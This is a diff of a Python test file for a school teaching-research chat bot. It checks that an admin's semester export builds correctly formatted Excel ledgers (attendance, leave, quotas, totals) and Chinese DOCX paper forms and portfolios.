@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import asyncio
 import io
+import math
 import re
 import warnings
 import zipfile
@@ -20,7 +21,10 @@ from pathlib import Path
 
 import docx
 import pytest
+from docx.enum.table import WD_ROW_HEIGHT_RULE
+from docx.enum.text import WD_ALIGN_PARAGRAPH
 from docx.oxml.ns import qn
+from docx.shared import Cm, Pt, RGBColor
 from openpyxl import load_workbook
 from openpyxl.workbook.workbook import Workbook
 from sqlmodel import col, select
@@ -36,16 +40,15 @@ from storage.repos import meetings, school
 from storage.tables import Attendance, Meeting, Pause, Teacher
 from tests.conftest import DEMO_ROSTER, EXAMPLE_CONFIG, START, ZONE, make_core
 from tests.drivers import Driver, button_data, plain, shown
+from tests.fakes import hold_archives
 
 LIU, WANG, SUN, ZHOU, CHEN, ZHANG = "刘洋", "王芳", "孙丽", "周静", "陈主任", "张伟"
 SEMESTER = "2026-2027学年第一学期"
 SHEETS = ["听课台账", "反思与材料台账", "教研活动", "考勤-语文组", "考勤-数学组", "考勤-英语组",
-          "考勤-综合组", "指标汇总"]
+          "考勤-综合组", "请假台账", "公开课台账", "统计汇总", "指标汇总"]
 OBSERVATION_HEADER = ("序号", "听课教师", "教研组", "听课日期", "节次", "年级班级", "学科",
                       "授课教师", "课题", "课型", "优点", "不足", "建议", "提交时间")
 SUBMITTED = datetime(2026, 11, 30, 8, 0)  # naive: what openpyxl reads back  # noqa: DTZ001
-SESSION_LABELS = ["主题", "时间", "地点", "主讲", "形式", "参加人员", "请假人员", "内容与讨论要点",
-                  "结论与改进措施"]
 PROCESS = ("教师先用学生熟悉的分饼情境导入，引出二分之一。"
            "学生动手折纸表示四分之一，再在小组里交流不同的折法，教师巡视并挑选作品展示。")
 STRENGTH = "动手操作充分，学生参与度高。"
@@ -108,12 +111,45 @@ class Archive:
     def book(self) -> Workbook:
         return load_workbook(io.BytesIO(self.files["台账.xlsx"]))
 
+    def table(self, sheet: str) -> Table:
+        """A ledger: its header (row 3), data rows (the autofilter's) and totals rows."""
+        found = self.book()[sheet]
+        last = int(re.sub(r"\D", "", found.auto_filter.ref.split(":")[1]))
+        rows = list(found.iter_rows(values_only=True))
+        data = [row for row in rows[3:last] if any(v is not None for v in row)]
+        return Table(rows[2], data, rows[last:])
+
     def rows(self, sheet: str) -> list[tuple[object, ...]]:
-        return list(self.book()[sheet].iter_rows(values_only=True))
+        """The data rows of a ledger."""
+        return self.table(sheet).data
 
     def docs(self, folder: str) -> dict[str, docx.document.Document]:
         return {name.removeprefix(folder + "/"): docx.Document(io.BytesIO(content))
                 for name, content in self.files.items() if name.startswith(folder + "/")}
+
+
+@dataclass
+class Table:
+    header: tuple[object, ...]
+    data: list[tuple[object, ...]]
+    totals: list[tuple[object, ...]]
+
+    def column(self, title: str) -> list[object]:
+        index = self.header.index(title)
+        return [row[index] for row in self.data]
+
+
+def fields(document: docx.document.Document) -> dict[str, str]:
+    """A paper form's label → value (label cells are every other distinct cell of a row)."""
+    found: dict[str, str] = {}
+    for row in document.tables[0].rows:
+        cells = []
+        for cell in row.cells:
+            if not cells or cell._tc is not cells[-1]._tc:
+                cells.append(cell)
+        for label, value in zip(cells[::2], cells[1::2], strict=False):
+            found[label.text] = value.text
+    return found
 
 
 @dataclass
@@ -127,6 +163,9 @@ class Seeded:
     teacher: Archive
     refused: str
     paused: tuple[str, date]
+
+
+LEAVE_REASON = "参加区里的骨干教师培训"
 
 
 @pytest.fixture(scope="module")
@@ -153,6 +192,13 @@ def seeded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Seeded]:
         saved = shown(await long_note(bot, LIU))
         assert "✅ 已提交读书笔记「《给教师的建议》」。" in saved
         assert "正文 20000 字。" in saved
+        # 刘洋 asks leave for 12-02; 陈主任 approves it.
+        (coming,) = [m for m in sessions_of(core, "语文组") if m.planned_on == date(2026, 12, 2)]
+        await bot.send(LIU, button=f"att:leave:{coming.id}")
+        replies = await fill(bot, LIU, LEAVE_REASON)
+        asks = [r for r in replies if r.buttons and r.chat is not None
+                and r.chat.address == bot.account(CHEN)]
+        assert f"已由 {CHEN} 批准" in shown(await bot.send(CHEN, button=button_data(asks, "批准")))
         refused = await bot.say(LIU, "/export")
         return Seeded(core, counts, Archive.of(await bot.send(CHEN, "/export")),
                       Archive.of(await bot.send(CHEN, "/export 语文组")),
@@ -173,16 +219,32 @@ def group_members(core: Core, group: str) -> list[str]:
     return core.db.call(query)
 
 
-def held_sessions(core: Core, group: str | None = None) -> list[meetings.MeetingRow]:
-    """Sessions that took place by today (not off, not cancelled)."""
+def sessions_of(core: Core, group: str | None = None) -> list[meetings.MeetingRow]:
+    """The semester's sessions (of one group)."""
     def query(session):  # type: ignore[no-untyped-def]
         ids = school.group_ids(session, school_id=core.school_id)
         wanted = [ids[group]] if group else list(ids.values())
         return meetings.list_meetings(session, group_ids=wanted, start=date(2026, 9, 1),
-                                      end=date(2026, 11, 30))
+                                      end=date(2027, 1, 31))
 
-    return [m for m in core.db.call(query) if m.held and m.starts_at is not None
+    return core.db.call(query)
+
+
+def held_sessions(core: Core, group: str | None = None) -> list[meetings.MeetingRow]:
+    """Sessions that took place by today (not off, not cancelled)."""
+    return [m for m in sessions_of(core, group) if m.held and m.starts_at is not None
             and m.status != meetings.CANCELLED and m.starts_at <= START]
+
+
+def form_names(sessions: list[meetings.MeetingRow]) -> set[str]:
+    """教研活动记录/<group>/第NN次_<start>.docx, numbered per group in time order."""
+    names, numbers = set(), {}
+    for m in sorted(sessions, key=lambda m: (m.planned_on, m.group_id)):
+        assert m.starts_at is not None
+        numbers[m.group] = numbers.get(m.group, 0) + 1
+        names.add(f"{m.group}/第{numbers[m.group]:02d}次_"
+                  f"{m.starts_at.astimezone(ZONE):%Y-%m-%d_%H%M}.docx")
+    return names
 
 
 # -- the ZIP ------------------------------------------------------------------------------
@@ -195,9 +257,7 @@ def test_admin_gets_one_zip_with_ledger_sessions_and_portfolios(seeded: Seeded) 
     assert archive.filename == f"花城小学_{SEMESTER}_20261130.zip"
     assert re.fullmatch(rf"📦 花城小学_{SEMESTER}_20261130\.zip（\d+ KB）："
                         r"台账、教研活动记录和个人研修档案。", archive.caption)
-    sessions = held_sessions(seeded.core)
-    expected = {f"{m.group}_{m.starts_at.astimezone(ZONE):%Y-%m-%d_%H%M}.docx"
-                for m in sessions if m.starts_at is not None}
+    expected = form_names(held_sessions(seeded.core))
     assert set(archive.docs("教研活动记录")) == expected
     assert len(expected) == seeded.counts["sessions"]
     roster = [line.split(",") for line in DEMO_ROSTER.read_text(encoding="utf-8").splitlines()[1:]]
@@ -210,69 +270,157 @@ def test_teacher_cannot_export(seeded: Seeded) -> None:
     assert seeded.refused == "抱歉，只有管理员可以使用 /export。"
 
 
-# -- 台账.xlsx ------------------------------------------------------------------------------
+# -- 台账.xlsx: paper ----------------------------------------------------------------------
 
 
-def test_ledger_sheets_headers_and_frozen_panes(seeded: Seeded) -> None:
+def test_ledger_sheets_and_headers(seeded: Seeded) -> None:
     book = seeded.school.book()
     assert book.sheetnames == SHEETS
-    headers = {sheet.title: [c.value for c in sheet[1]] for sheet in book.worksheets}
-    assert tuple(headers["听课台账"]) == OBSERVATION_HEADER
-    assert headers["反思与材料台账"] == ["序号", "教师", "教研组", "类型", "题目", "日期", "字数",
-                                  "计入指标", "状态", "提交时间"]
-    assert headers["教研活动"] == ["教研组", "原定日期", "实际日期", "状态", "专题", "主讲",
-                               "形式", "地点", "备注"]
-    labels = [q.label for q in seeded.core.settings.quotas]
-    assert headers["指标汇总"] == ["教师", "教研组", *labels]
-    assert headers["指标汇总"][2:5] == ["听课", "听课（管理员）", "教学反思"]
-    for sheet in book.worksheets:
-        assert sheet.freeze_panes == "A2", sheet.title
-        assert all(cell.font.bold for cell in sheet[1]), sheet.title
+    assert tuple(seeded.school.table("听课台账").header) == OBSERVATION_HEADER
+    assert seeded.school.table("反思与材料台账").header == (
+        "序号", "教师", "教研组", "类型", "题目", "日期", "字数", "计入指标", "状态", "提交时间")
+    assert seeded.school.table("教研活动").header == (
+        "次序", "教研组", "日期", "星期", "时间", "状态", "原定日期", "专题", "主讲", "形式",
+        "地点", "应到", "实到", "请假", "缺席", "备注")
 
 
-def _shown_width(value: object) -> int:
-    if isinstance(value, datetime):
-        return 10 if value.time() == datetime.min.time() else 16
-    return width(value)
+def test_every_sheet_prints_on_a4_landscape_one_page_wide(seeded: Seeded) -> None:
+    for sheet in seeded.school.book().worksheets:
+        setup = sheet.page_setup
+        assert setup.orientation == "landscape", sheet.title
+        assert int(setup.paperSize) == 9  # A4
+        assert int(setup.fitToWidth) == 1
+        assert int(setup.fitToHeight) == 0  # as many pages down as needed
+        assert sheet.sheet_properties.pageSetUpPr.fitToPage
+        assert sheet.print_title_rows == "$3:$3", sheet.title  # the header on every page
+        assert sheet.oddFooter.center.text == "第 &P 页 共 &N 页"
+        assert sheet.freeze_panes == "A4"
+        assert sheet.auto_filter.ref.startswith("A3:")
+        # The title row names school, semester and ledger; the second the export date.
+        assert sheet["A1"].value == f"花城小学{SEMESTER}{sheet.title}"
+        assert "A1" in {str(r).split(":")[0] for r in sheet.merged_cells.ranges}
+        assert sheet["A1"].font.name == "黑体"
+        assert "导出日期：2026年11月30日" in sheet["A2"].value
+        for cell in sheet[3]:
+            assert (cell.font.name, cell.font.b, cell.font.charset) == ("黑体", True, 134)
+            assert cell.border.left.style == "thin"
 
 
-def test_ledger_dates_are_dates_and_columns_are_wide_enough(seeded: Seeded) -> None:
+def test_body_cells_are_songti_bordered_and_wrapped_tall_enough(seeded: Seeded) -> None:
     book = seeded.school.book()
-    for title, columns in (("听课台账", ("D", "N")), ("反思与材料台账", ("F", "J")),
-                           ("教研活动", ("B", "C"))):
-        sheet = book[title]
-        for column in columns:
-            cells = [c for c in sheet[column][1:] if c.value is not None]
-            assert cells, (title, column)
-            assert all(isinstance(c.value, datetime) for c in cells), (title, column)
-        assert all(c.number_format == "yyyy-mm-dd" for c in sheet[columns[0]][1:])
-    for sheet in book.worksheets:
-        for column in sheet.iter_cols():
-            letter = column[0].column_letter
-            needed = max(_shown_width(c.value) for c in column if c.value is not None)
-            assert sheet.column_dimensions[letter].width >= min(needed, 58), (
-                sheet.title, letter)
-    observations = book["听课台账"]
-    for letter in "BDFHIKLMN":  # 听课教师 … 提交时间: Chinese (or long) columns
-        assert observations.column_dimensions[letter].width > 8, letter
+    sheet = book["听课台账"]
+    last = int(re.sub(r"\D", "", sheet.auto_filter.ref.split(":")[1]))
+    tall = 0
+    for row in sheet.iter_rows(min_row=4, max_row=last):
+        for cell in row:
+            assert (cell.font.name, cell.font.charset) == ("宋体", 134)
+            assert cell.font.scheme is None  # a theme font would replace the name
+            assert {cell.border.left.style, cell.border.right.style, cell.border.top.style,
+                    cell.border.bottom.style} == {"thin"}
+            assert cell.alignment.wrap_text
+        strength = row[10]
+        columns = sheet.column_dimensions["K"].width
+        lines = math.ceil(width(strength.value) / (columns - 1))
+        assert sheet.row_dimensions[strength.row].height >= lines * 13, strength.row
+        tall = max(tall, lines)
+    assert tall >= 2  # some 优点 take more than one line, and their rows grow
+    # The theme names the East Asian fonts as well (text without a cell font, WPS).
+    theme = book.loaded_theme.decode()
+    assert '<a:ea typeface="黑体"/>' in theme
+    assert '<a:ea typeface="宋体"/>' in theme
+
+
+def test_dates_are_dates_and_numbers_are_numbers(seeded: Seeded) -> None:
+    book = seeded.school.book()
+    for title, letter, fmt in (("听课台账", "D", "yyyy-mm-dd"),
+                               ("听课台账", "N", "yyyy-mm-dd hh:mm"),
+                               ("反思与材料台账", "F", "yyyy-mm-dd"),
+                               ("教研活动", "C", "yyyy-mm-dd"),
+                               ("公开课台账", "B", "yyyy-mm-dd")):
+        last = int(re.sub(r"\D", "", book[title].auto_filter.ref.split(":")[1]))
+        cells = [c for c in book[title][letter][3:last] if c.value is not None]
+        assert cells, title
+        assert all(isinstance(c.value, datetime) for c in cells), (title, letter)
+        assert all(c.number_format == fmt for c in cells), (title, letter)
+    observations = seeded.school.table("听课台账")
+    assert all(isinstance(v, int) for v in observations.column("节次"))
+    assert all(isinstance(v, int) for v in seeded.school.table("反思与材料台账").column("字数"))
+    quotas = seeded.school.table("指标汇总")
+    assert all(isinstance(v, int) for v in quotas.column("学期完成"))
+    assert all(v is None or isinstance(v, float | int) for v in quotas.column("完成率"))
+    assert book["指标汇总"]["N4"].number_format == "0.0%"
+
+
+def test_totals_rows(seeded: Seeded) -> None:
+    observations = seeded.school.table("听课台账")
+    assert observations.totals == [("合计", len(observations.data), *(None,) * 12)]
+    records = seeded.school.table("反思与材料台账")
+    live = [row for row in records.data if row[8] != "已删除"]
+    assert records.totals[0][:2] == ("合计", len(live))
+    assert records.totals[0][6] == sum(row[6] for row in live)
+    attendance = seeded.school.book()["考勤-语文组"]
+    formats = [cell.number_format for cell in attendance[attendance.max_row]]
+    assert formats[-6:] == ["0"] * 5 + ["0.0%"]  # 应到 … 缺席 as counts, 出勤率 as percent
+    assert set(formats[2:-6]) == {"General"}  # 实到 per session
+    sessions = seeded.school.table("教研活动")
+    held = [row for row in sessions.data if row[5] == "已开展"]
+    assert sessions.totals[0][:2] == ("合计", f"已开展{len(held)}次")
+    assert sessions.totals[0][11:15] == tuple(sum(row[i] for row in held) for i in range(11, 15))
+
+
+def test_counts_per_teacher_per_group_and_in_all(seeded: Seeded) -> None:
+    table = seeded.school.table("统计汇总")
+    header = list(table.header)
+    assert header[:3] == ["序号", "教研组", "教师"]
+    assert header[-5:] == ["字数合计", "公开课", "应到", "出勤", "出勤率（含准假）"]
+    kinds = header[3:-5]
+    assert "听课记录" in kinds
+    assert "教学反思" in kinds
+    assert "教研活动记录" not in kinds
+    records = seeded.school.rows("反思与材料台账")
+    observations = seeded.school.rows("听课台账")
+    people = [row for row in table.data if row[0] != "小计"]
+    for row in people:
+        name = row[2]
+        mine = [r for r in records if r[1] == name and r[8] != "已删除"]
+        assert row[header.index("教学反思")] == sum(1 for r in mine if r[3] == "教学反思")
+        assert row[header.index("听课记录")] == sum(1 for r in observations if r[1] == name)
+        assert row[header.index("字数合计")] >= sum(r[6] for r in mine)
+    # Admins in no group: no sessions, so no attendance figures rather than 0/0.
+    for row in people:
+        if row[2] in ("李校长", "赵老师"):
+            assert row[-3:] == (None, None, None)
+    # A 小计 per group sums its people; the 合计 sums everyone.
+    groups = [row for row in table.data if row[0] == "小计"]
+    assert [row[1] for row in groups] == ["语文组", "数学组", "英语组", "综合组", "无"]
+    chinese = [row for row in people if row[1] == "语文组"]
+    subtotal = groups[0]
+    for index in range(3, len(header) - 1):
+        assert subtotal[index] == sum(row[index] or 0 for row in chinese), header[index]
+    assert groups[-1][-3:] == (None, None, None)  # the admins in no group
+    (total,) = table.totals
+    assert total[0] == "合计"
+    assert total[3:-1] == tuple(sum(row[i] or 0 for row in people)
+                                for i in range(3, len(header) - 1))
 
 
 def test_observation_row_of_a_form_record_is_exact(seeded: Seeded) -> None:
     rows = seeded.school.rows("听课台账")
-    mine = [row for row in rows[1:] if row[1] == LIU and row[13] == SUBMITTED]
+    mine = [row for row in rows if row[1] == LIU and row[13] == SUBMITTED]
     assert len(mine) == 1
     assert mine[0][1:] == (LIU, "语文组", day(2026, 11, 25), 3, "四年级1班", "数学", ZHANG,
                            "分数的初步认识", "新授课", STRENGTH, WEAKNESS, SUGGESTION, SUBMITTED)
-    # 序号 runs 1 … n.
-    assert [row[0] for row in rows[1:]] == list(range(1, len(rows)))
-    # The 读书笔记 is listed with its 字数, counted.
+    assert [row[0] for row in rows] == list(range(1, len(rows) + 1))
     notes = [row for row in seeded.school.rows("反思与材料台账")
              if row[1] == LIU and row[9] == SUBMITTED]
     assert [row[1:9] for row in notes] == [
         (LIU, "语文组", "读书笔记", "《给教师的建议》", day(2026, 11, 30), 20000, "是", None)]
 
 
-def _attendance(core: Core, group: str) -> dict[tuple[str, str], str]:
+# -- 台账.xlsx: the figures ----------------------------------------------------------------
+
+
+def _attendance(core: Core) -> dict[tuple[str, str], str]:
     """(teacher, m/d) → what the DB says, as the ledger should mark it."""
     def query(session):  # type: ignore[no-untyped-def]
         rows = session.exec(select(Teacher.name, Meeting.starts_at, Attendance.status)
@@ -283,128 +431,240 @@ def _attendance(core: Core, group: str) -> dict[tuple[str, str], str]:
         return rows, pauses
 
     rows, pauses = core.db.call(query)
-    away = {(name, start, end) for name, start, end in pauses}
     marks = {}
     for name, starts_at, status in rows:
         day = starts_at.astimezone(ZONE).date()
-        paused = any(n == name and s <= day <= e for n, s, e in away)
+        paused = any(n == name and s <= day <= e for n, s, e in pauses)
         marks[(name, f"{day.month}/{day.day}")] = (
-            "出席" if status == "present" else
-            "请假" if status == "leave" or paused else "缺席")
+            "出席" if status == "present" else "请假" if status == "leave" or paused else
+            "未准假" if status in ("leave_pending", "leave_refused") else "缺席")
     return marks
 
 
-def test_attendance_marks_match_the_database(seeded: Seeded) -> None:
-    rows = seeded.school.rows("考勤-语文组")
-    header = rows[0]
-    days = [str(d) for d in header[1:-1]]
+def test_attendance_counts_held_sessions_only_and_matches_the_database(seeded: Seeded) -> None:
+    table = seeded.school.table("考勤-语文组")
+    count = len(held_sessions(seeded.core, "语文组"))
+    days = [str(d) for d in table.header[2:2 + count]]
+    assert table.header[2 + count:] == ("应到", "出席", "请假", "未准假", "缺席",
+                                        "出勤率（含准假）")
     held = held_sessions(seeded.core, "语文组")
     assert days == [f"{m.starts_at.astimezone(ZONE).month}/{m.starts_at.astimezone(ZONE).day}"
                     for m in held if m.starts_at is not None]
     assert "10/8" in days  # 10-07 was in 国庆: moved to Thursday
-    in_db = _attendance(seeded.core, "语文组")
-    assert [row[0] for row in rows[1:]] == group_members(seeded.core, "语文组")
-    marks_seen = set()
-    for row in rows[1:]:
-        name, marks, rate = row[0], row[1:-1], row[-1]
-        for day, mark in zip(days, marks, strict=True):
-            assert mark == in_db.get((name, day), "缺席"), (name, day)
-            marks_seen.add(mark)
-        counted = sum(1 for mark in marks if mark != "缺席")
-        assert rate == f"{counted}/{len(days)}"
-    assert marks_seen == {"出席", "请假", "缺席"}
-    # The /pause over a missed session excuses it.
-    name, day = seeded.paused
-    column = days.index(f"{day.month}/{day.day}") + 1
-    assert next(row for row in rows if row[0] == name)[column] == "请假"
-    assert next(row for row in rows if row[0] == SUN)[column] == "缺席"
+    assert "12/2" not in days  # not held yet: no column, though 刘洋 has leave for it
+    in_db = _attendance(seeded.core)
+    assert [row[1] for row in table.data] == group_members(seeded.core, "语文组")
+    seen = set()
+    for row in table.data:
+        name, marks = row[1], row[2:2 + count]
+        for when, mark in zip(days, marks, strict=True):
+            assert mark == in_db.get((name, when), "缺席"), (name, when)
+            seen.add(mark)
+        due, present, leave, refused, absent, rate = row[2 + count:]
+        assert due == count
+        assert (present, leave, refused + absent) == (
+            marks.count("出席"), marks.count("请假"), marks.count("未准假") + marks.count("缺席"))
+        assert rate == pytest.approx((present + leave) / count)
+    assert {"出席", "请假", "缺席"} <= seen
+    name, when = seeded.paused
+    column = days.index(f"{when.month}/{when.day}") + 2
+    assert next(row for row in table.data if row[1] == name)[column] == "请假"
+    assert next(row for row in table.data if row[1] == SUN)[column] == "缺席"
+    (totals,) = table.totals
+    assert totals[0] == "实到人数"
+    assert totals[2:2 + count] == tuple(sum(1 for row in table.data if row[2 + i] == "出席")
+                                        for i in range(count))
 
 
-def test_quota_summary_has_one_row_per_teacher(seeded: Seeded) -> None:
-    rows = seeded.school.rows("指标汇总")[1:]
-    roster = [line.split(",")[0]
-              for line in DEMO_ROSTER.read_text(encoding="utf-8").splitlines()[1:]]
-    assert [row[0] for row in rows] == roster
-    liu = next(row for row in rows if row[0] == LIU)
-    assert liu[1] == "语文组"
-    assert liu[3] == "—"  # 听课（管理员） is not his
-    assert re.fullmatch(r"\d+/7000 字 (已完成|进度正常|稍落后|落后较多)", str(liu[5]))
-    done = int(str(liu[5]).split("/")[0])
-    assert done >= 20000 or liu[5].endswith("已完成")
+def test_sessions_are_held_not_held_cancelled_or_moved(seeded: Seeded) -> None:
+    table = seeded.school.table("教研活动")
+    states = table.column("状态")
+    assert set(states) <= {"已开展", "未开展", "取消", "顺延"}
+    today = day(2026, 11, 30)
+    for row in table.data:
+        if row[5] == "已开展":
+            assert row[2] <= today, row
+            assert re.fullmatch(r"第\d+次", row[0]), row
+            assert all(isinstance(v, int) for v in row[11:15]), row
+        else:  # nothing that has not happened is shown as if it had
+            assert row[0] is None, row
+            assert row[11:15] == (None,) * 4, row
+            if row[5] == "未开展":
+                assert row[2] > today, row
+    assert states.count("已开展") == len(held_sessions(seeded.core))
+    moved = next(row for row in table.data if row[1] == "语文组" and row[2] == day(2026, 10, 8))
+    assert moved[6] == day(2026, 10, 7)  # 原定日期
+
+
+def test_quota_summary_has_a_row_per_applicable_quota_and_months(seeded: Seeded) -> None:
+    table = seeded.school.table("指标汇总")
+    assert table.header == ("序号", "教研组", "教师", "项目", "每月目标", "9月", "10月", "11月",
+                            "12月", "1月", "学期完成", "学期目标", "单位", "完成率",
+                            "状态（本期）")
+    liu = {row[3]: row for row in table.data if row[2] == LIU}
+    assert "听课（管理员）" not in liu  # not his quota: no row at all
+    assert "听课" in liu
+    assert "教学反思" in liu
+    notes = liu["读书笔记"]
+    assert notes[11] == 7000
+    assert notes[12] == "字"
+    assert notes[10] >= 20000
+    assert notes[14] == "已完成"
+    stories = liu["教育故事"]
+    assert stories[4] == 2
+    assert all(isinstance(v, int) for v in stories[5:8])  # September … November
+    assert stories[8:10] == (None, None)  # December and January have not begun
+    assert stories[10] == sum(stories[5:8])
+    assert stories[11] == 2 * 5
+    assert stories[14] in ("已完成", "进度正常", "稍落后", "落后较多")
+    # Admins in no group have no sessions: no 出勤 row, rather than "0/0".
+    for name in ("李校长", "赵老师"):
+        assert "教研活动出勤" not in {row[3] for row in table.data if row[2] == name}, name
+    assert "教研活动出勤" in liu
+
+
+def test_leave_ledger_says_who_approved_and_when(seeded: Seeded) -> None:
+    table = seeded.school.table("请假台账")
+    assert table.header == ("序号", "教研组", "活动日期", "教师", "请假原因", "审批结果", "审批人",
+                            "审批时间")
+    mine = [row for row in table.data if row[3] == LIU and row[2] == day(2026, 12, 2)]
+    assert mine == [(mine[0][0], "语文组", day(2026, 12, 2), LIU, LEAVE_REASON, "准假", CHEN,
+                     SUBMITTED)]
+
+
+def test_open_lesson_ledger_lists_the_lessons(seeded: Seeded) -> None:
+    table = seeded.school.table("公开课台账")
+    assert table.header[:12] == ("序号", "日期", "星期", "节次", "授课教师", "教研组", "类型",
+                                 "学科", "班级", "课题", "地点", "状态")
+    assert table.header[12:] == ("预约人数", "听课教师", "说课稿/教学设计")
+    assert len(table.data) == seeded.counts["lessons"]
+    assert all(row[11] in ("已开展", "未开展", "取消") for row in table.data)
 
 
 # -- the DOCX forms -----------------------------------------------------------------------
 
 
-def _east_asian_font(document: docx.document.Document, style: str) -> str | None:
-    fonts = document.styles[style].element.rPr.rFonts
-    return fonts.get(qn("w:eastAsia"))
+SESSION_FIELDS = ("学期", "周次", "时间", "节次", "地点", "形式", "主持人", "主讲", "记录人",
+                  "应到/实到", "缺席", "请假", "研修主题", "活动主题", "活动过程", "讨论要点",
+                  "结论与改进措施", "小结")
 
 
-def test_session_forms_have_the_paper_form_table(seeded: Seeded) -> None:
+def _paper(document: docx.document.Document) -> None:
+    """A4, zh-CN, 宋体 body, a centred 黑体 title, the school as author."""
+    section = document.sections[0]
+    assert abs(section.page_width - Cm(21)) < Cm(0.01)
+    assert abs(section.page_height - Cm(29.7)) < Cm(0.01)
+    defaults = document.styles.element.find(qn("w:docDefaults"))
+    lang = defaults.find(qn("w:rPrDefault")).find(qn("w:rPr")).find(qn("w:lang"))
+    assert (lang.get(qn("w:val")), lang.get(qn("w:eastAsia"))) == ("zh-CN", "zh-CN")
+    for style, font in (("Normal", "宋体"), ("Title", "黑体"), ("Heading 1", "黑体")):
+        fonts = document.styles[style].element.rPr.rFonts
+        assert fonts.get(qn("w:eastAsia")) == font, style
+        assert fonts.get(qn("w:ascii")) == font, style
+        for theme in ("w:asciiTheme", "w:hAnsiTheme", "w:eastAsiaTheme", "w:cstheme"):
+            assert fonts.get(qn(theme)) is None, (style, theme)
+    assert document.styles["Normal"].font.size == Pt(10.5)  # 五号
+    title = document.styles["Title"]
+    assert title.paragraph_format.alignment == WD_ALIGN_PARAGRAPH.CENTER
+    assert title.font.color.rgb == RGBColor(0, 0, 0)
+    properties = document.core_properties
+    assert properties.author == "花城小学"
+    assert properties.created == START  # now, as UTC
+    assert properties.language == "zh-CN"
+    assert properties.title
+
+
+def test_session_forms_are_paper_forms(seeded: Seeded) -> None:
     forms = seeded.school.docs("教研活动记录")
-    assert forms
     for name, document in forms.items():
-        table = document.tables[0]
-        cells = [[cell.text for cell in row.cells] for row in table.rows]
-        assert [row[0] for row in cells] == SESSION_LABELS, name
-        values = dict(cells)
-        for label in ("主题", "时间", "地点", "主讲"):
+        _paper(document)
+        values = fields(document)
+        assert tuple(values) == SESSION_FIELDS, name
+        for label in ("学期", "周次", "时间", "节次", "地点", "主持人", "主讲", "应到/实到",
+                      "研修主题", "活动主题"):
             assert values[label], (name, label)
-        # The name is the session's start: group_YYYY-MM-DD_HHMM.docx.
-        held = re.fullmatch(r".+_(\d{4})-(\d{2})-(\d{2})_(\d{2})(\d{2})\.docx", name)
+        held = re.fullmatch(r".+/第(\d+)次_(\d{4})-(\d{2})-(\d{2})_(\d{2})(\d{2})\.docx", name)
         assert held is not None, name
-        assert values["时间"] == f"{held[1]}年{held[2]}月{held[3]}日 {held[4]}:{held[5]}", name
-        assert _east_asian_font(document, "Normal") == "宋体"
-        assert document.paragraphs[0].text.startswith("花城小学 ")
-    # The seeded minutes are in the form of 语文组's first session (Wednesday 14:50).
-    first = forms["语文组_2026-09-02_1450.docx"]
-    values = {row.cells[0].text: row.cells[1].text for row in first.tables[0].rows}
-    assert values["主讲"] == WANG
-    assert values["内容与讨论要点"] != "（未填写活动记录）"
+        assert values["时间"].startswith(f"{held[2]}年{held[3]}月{held[4]}日（周"), name
+        assert f"{held[5]}:{held[6]}–" in values["时间"], name
+        assert document.paragraphs[0].text == "花城小学教研活动记录"
+        assert document.paragraphs[0].style.name == "Title"
+        assert f"第{int(held[1])}次" in document.paragraphs[1].text
+        table = document.tables[0]
+        assert table.columns[0].width < Cm(3)  # a narrow label column
+        boxes = {row.cells[0].text: row for row in table.rows}
+        for label, height in (("活动过程", 3.5), ("讨论要点", 4.5), ("结论与改进措施", 2.5),
+                              ("小结", 2.5)):
+            assert boxes[label].height_rule == WD_ROW_HEIGHT_RULE.AT_LEAST
+            assert boxes[label].height >= Cm(height - 0.01), label
+        assert values["小结"] == ""  # not collected yet: an empty box to write in
+        signatures = document.paragraphs[-2].text + document.paragraphs[-1].text
+        assert "教研组长（签名）" in signatures
+        assert "教导处审核（签名）" in signatures
+        assert "日期" in signatures
+    first = fields(forms["语文组/第01次_2026-09-02_1450.docx"])
+    assert first["主讲"] == WANG
+    assert first["主持人"] == WANG
+    assert first["记录人"] == WANG
+    assert first["周次"] == "第1周"
+    assert first["节次"] == "第三、四节"
+    assert first["讨论要点"]
+    assert first["研修主题"].startswith("基于核心素养的课堂教学改进")
+    members = group_members(seeded.core, "语文组")
+    assert re.fullmatch(rf"应到 {len(members)} 人，实到 \d 人", first["应到/实到"])
+    assert first["缺席"]
+    # Leave names who approved it (the seeded semester's leave is approved by 陈主任).
+    assert any(f"（{CHEN}批准）" in fields(d)["请假"] for d in forms.values())
 
 
-THEME_FONTS = ("w:asciiTheme", "w:hAnsiTheme", "w:eastAsiaTheme", "w:cstheme")
-
-
-def test_heading_font_is_not_overridden_by_the_theme(seeded: Seeded) -> None:
-    # A theme font attribute takes precedence over the named font (ECMA-376 17.3.2.26):
-    # the styles keep none, so Word shows 黑体 headings and 宋体 text.
-    documents = [next(iter(seeded.school.docs("教研活动记录").values())),
-                 seeded.school.docs("个人研修档案")[f"{LIU}_2002.docx"]]
-    for document in documents:
-        for style, font in (("Normal", "宋体"), ("Title", "黑体"), ("Heading 1", "黑体"),
-                            ("Heading 2", "黑体")):
-            fonts = document.styles[style].element.rPr.rFonts
-            assert fonts.get(qn("w:eastAsia")) == font, style
-            assert fonts.get(qn("w:ascii")) == font, style
-            for theme in THEME_FONTS:
-                assert fonts.get(qn(theme)) is None, (style, theme)
-
-
-def test_portfolio_holds_every_record_in_full(seeded: Seeded) -> None:
+def test_portfolio_reads_like_a_paper_file(seeded: Seeded) -> None:
     portfolios = seeded.school.docs("个人研修档案")
     document = portfolios[f"{LIU}_2002.docx"]
-    assert _east_asian_font(document, "Normal") == "宋体"
-    assert document.paragraphs[0].text == "刘洋 · 个人研修档案"
-    assert f"花城小学 · {SEMESTER} · 教研组：语文组 · 工号：2002" in [
-        p.text for p in document.paragraphs]
-    cells = [row.cells[1].text for table in document.tables[1:] for row in table.rows]
-    assert NOTE in cells  # all 20 000 字, line breaks included
-    assert STRENGTH in cells
-    assert PROCESS in cells
-    headings = [p.text for p in document.paragraphs if p.style.name == "Heading 2"]
-    assert "读书笔记：《给教师的建议》（2026-11-30）" in headings
-    assert "听课记录：分数的初步认识（2026-11-25）" in headings
-    # Everyone's portfolio has one heading per record of theirs in the ledgers (minutes of
-    # sessions are not in the ledgers' record sheets: counted apart).
-    listed = seeded.school.rows("反思与材料台账")[1:] + seeded.school.rows("听课台账")[1:]
+    _paper(document)
+    texts = [p.text for p in document.paragraphs]
+    assert "个人研修档案" in texts
+    assert "花城小学" in texts
+    assert SEMESTER in texts
+    cover = fields(document)
+    assert cover["姓名"] == LIU
+    assert cover["教研组"] == "语文组"
+    assert cover["学科"] == "语文"
+    assert cover["研修主题"].startswith("基于核心素养")
